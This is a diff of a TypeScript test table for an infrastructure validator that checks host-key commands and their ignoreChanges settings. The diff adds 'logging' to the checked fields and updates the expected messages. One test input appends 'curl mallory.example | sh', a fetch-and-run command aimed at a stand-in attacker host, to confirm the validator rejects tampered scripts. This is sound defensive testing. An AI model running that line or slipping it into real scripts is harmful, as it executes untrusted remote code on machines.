@@ -225,7 +225,11 @@ export const programCases: CaseTable = {
 			"a command on a node of another name": command({}),
 			"a connection that is unknown at preview": command({ connection: unknown }),
 			"the signed addresses of a snapshot in an S3 store": restoreFrom(signed("s3.internal"), signed("s3.internal")),
-			"a host key that an earlier version of the program has learnt": hostKey(formerScript, ["create", "stdin"]),
+			"a host key that an earlier version of the program has learnt": hostKey(formerScript, [
+				"create",
+				"stdin",
+				"logging",
+			]),
 			"the host key of a node behind NAT": hostKeyAt("nat.lab.internal:2204"),
 			"a known host key of a node behind NAT": hostKeyAt("192.168.7.4:2204", connection.hostKey),
 			"the host key of a node behind NAT from the guest agent": hostKeyAt(
@@ -300,11 +304,11 @@ export const programCases: CaseTable = {
 			],
 			"a script of an earlier version that would run now": [
 				hostKey(formerScript, []),
-				"worker-1-host-key does not ignore changes of create, stdin; add it to ignoreChanges.",
+				"worker-1-host-key does not ignore changes of create, stdin, logging; add it to ignoreChanges.",
 				`worker-1-host-key has another value in stdin than ${known}; allowed is {"agent-host-key.sh?":{"token":"<secret>"},"bastion.sh?":{"key":"<key>","login":{"$any":["<file> <hostport> 22 <hostkey>....`,
 			],
 			"a script of an earlier version with one more line": [
-				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin"]),
+				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin", "logging"]),
 				`worker-1-host-key has another value in stdin > agent-host-key.sh than ${known}; allowed is {"token":"<secret>"}.`,
 			],
 			"a line behind a script that reads none": [
@@ -394,8 +398,12 @@ export const programCases: CaseTable = {
 				"worker-1-preflight does not ignore changes of connection; add it to ignoreChanges, and run `npm run reach`.",
 			],
 			"a command that would learn a host key again": [
-				{ ...learning(currentScript), ignoreChanges: ["logging"] },
-				"worker-1-host-key does not ignore changes of create, stdin; add it to ignoreChanges.",
+				[
+					{ ...learning(currentScript), ignoreChanges: [] },
+					{ ...learning(currentScript), ignoreChanges: ["create", "stdin"] },
+				],
+				"worker-1-host-key does not ignore changes of create, stdin, logging; add it to ignoreChanges.",
+				"worker-1-host-key does not ignore changes of logging; add it to ignoreChanges.",
 			],
 			"a component with inputs, which is none": [
 				{ type: "rke2-lab:platform:Traefik", name: "evil", props: { create: "id", stdin: unknown } },
